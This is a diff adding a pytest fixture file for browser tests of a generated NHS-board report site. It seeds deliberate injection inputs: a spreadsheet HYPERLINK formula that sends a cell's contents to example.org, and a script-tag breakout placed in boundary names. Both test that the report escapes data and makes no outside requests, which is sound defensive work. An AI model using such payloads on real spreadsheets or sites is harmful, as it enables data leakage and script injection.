@@ -1,0 +1,169 @@
+"""The browser tier: Debian's chromium, two reports built from made releases, and a watch over every visit."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import duckdb
+import pytest
+from made_release import write_made_release
+from playwright.sync_api import Browser, sync_playwright
+from released_figures import ReleasedFigures, read_released_figures
+from visits import Readers, Site, Visit, Visits
+
+from expectations.contracts import TOPICS, file_of
+from orchestration.report.serving import server_of
+from orchestration.report.site import build_report
+
+NAMED_CHROMIUM = "IAPT_CHROMIUM"
+FLAGS = (
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+    "--disable-quic",
+)
+#: A board whose name a spreadsheet would run as a formula.
+FORMULA_CODE = "QOQ"
+FORMULA_NAME = '=HYPERLINK("https://example.org/?"&A1, "Humber")'
+#: A board that the boundary file leaves out.
+WITHOUT_BOUNDARY = "QWU"
+
+
+@pytest.fixture(scope="session")
+def chromium() -> str:
+    """Where chromium is. A machine without it fails here: a tier that skips itself tests nothing."""
+    named = os.environ.get(NAMED_CHROMIUM)
+    found = named or next(
+        (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None
+    )
+    if not found or not Path(found).exists():
+        pytest.fail(
+            f"no chromium{f' at {named}' if named else ''}: install it with `apt-get install chromium`, "
+            f"or name one in {NAMED_CHROMIUM}",
+            pytrace=False,
+        )
+    return found
+
+
+@pytest.fixture(scope="session")
+def browser(chromium: str) -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=chromium, args=list(FLAGS))
+        yield browser
+        browser.close()
+
+
+def _rewrite(release: Path, table: str, query: str) -> None:
+    """Write a table of a release again, as a query of `the_table` says."""
+    path = release / file_of(table)
+    beside = path.with_suffix(".new")
+    with duckdb.connect() as connection:
+        connection.execute(f"create view the_table as from read_parquet('{path}')")
+        connection.execute(f"copy ({query}) to '{beside}' (format parquet)")
+    beside.rename(path)
+
+
+def write_boundaries(path: Path, codes: list[str]) -> None:
+    """Squares as boundaries: the nth board has ONS code E54000nnn."""
+    features = []
+    for number, code in enumerate(codes):
+        west, south = -4 + number % 7 * 0.6, 50 + number // 7 * 0.7
+        ring = [[west, south], [west + 0.5, south], [west + 0.5, south + 0.6], [west, south + 0.6], [west, south]]
+        if code != WITHOUT_BOUNDARY:
+            features.append(
+                {
+                    "type": "Feature",
+                    "properties": {"ICB23CD": f"E54000{100 + number}", "ICB23NM": f'"><script>{code}</script>'},
+                    "geometry": {"type": "Polygon", "coordinates": [ring]},
+                }
+            )
+    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
+
+
+def _served(folder: Path, release: Path) -> Iterator[Site]:
+    server = server_of(folder, 0)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield Site(folder, release, f"http://127.0.0.1:{server.server_address[1]}")
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+@pytest.fixture(scope="session")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    """The report of the made release, with boundaries on its maps and a board of a name like a formula."""
+    folder = tmp_path_factory.mktemp("report")
+    release = write_made_release(folder / "release")
+    with duckdb.connect() as connection:
+        codes = [
+            row[0]
+            for row in connection.execute(
+                f"select org_code from read_parquet('{release / file_of('dim_organisation')}') "
+                "where org_level = 'icb' order by org_code"
+            ).fetchall()
+        ]
+    name = FORMULA_NAME.replace("'", "''")
+    ons = ", ".join(f"('{code}', 'E54000{100 + number}')" for number, code in enumerate(codes))
+    _rewrite(
+        release,
+        "dim_organisation",
+        f"""select the_table.* replace (
+              case when org_code = '{FORMULA_CODE}' then '{name}' else org_name end as org_name,
+              case when org_level = 'icb' then given.ons end as ons_code)
+            from the_table left join (values {ons}) given(code, ons) on given.code = org_code""",
+    )
+    write_boundaries(folder / "boards.geojson", codes)
+    build_report(release, folder / "site", boundaries=folder / "boards.geojson")
+    yield from _served(folder / "site", release)
+
+
+@pytest.fixture(scope="session")
+def bare_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    """The report of a release without quarters, boundaries or a statement: what is not there must not break it."""
+    folder = tmp_path_factory.mktemp("bare")
+    release = write_made_release(folder / "release")
+    for mart in TOPICS:
+        _rewrite(release, mart, "from the_table where period_grain <> 'quarter'")
+    _rewrite(release, "extract_quarterly", "from the_table where false")
+    path = release / "manifest.json"
+    manifest: dict[str, Any] = json.loads(path.read_text("utf-8"))
+    path.write_text(json.dumps(manifest | {"statement": "", "data_origin": "published"}), encoding="utf-8")
+    build_report(release, folder / "site")
+    yield from _served(folder / "site", release)
+
+
+@pytest.fixture(scope="session")
+def figures(site: Site) -> ReleasedFigures:
+    """What the release says, read without any code of the report."""
+    return read_released_figures(site.release)
+
+
+@pytest.fixture(scope="session")
+def readers(browser: Browser) -> Readers:
+    return Readers(browser)
+
+
+@pytest.fixture
+def visits(readers: Readers, site: Site) -> Iterator[Visits]:
+    """Visits, over which is watched: no error, and no request that leaves the site."""
+    visits = Visits(readers, site)
+    yield visits
+    visits.end()
+
+
+@pytest.fixture(scope="session")
+def parser(browser: Browser, site: Site) -> Iterator[Visit]:
+    """An empty page whose only use is to parse the texts of others."""
+    context = browser.new_context(java_script_enabled=False)
+    yield Visit(context.new_page(), site, "file")
+    context.close()
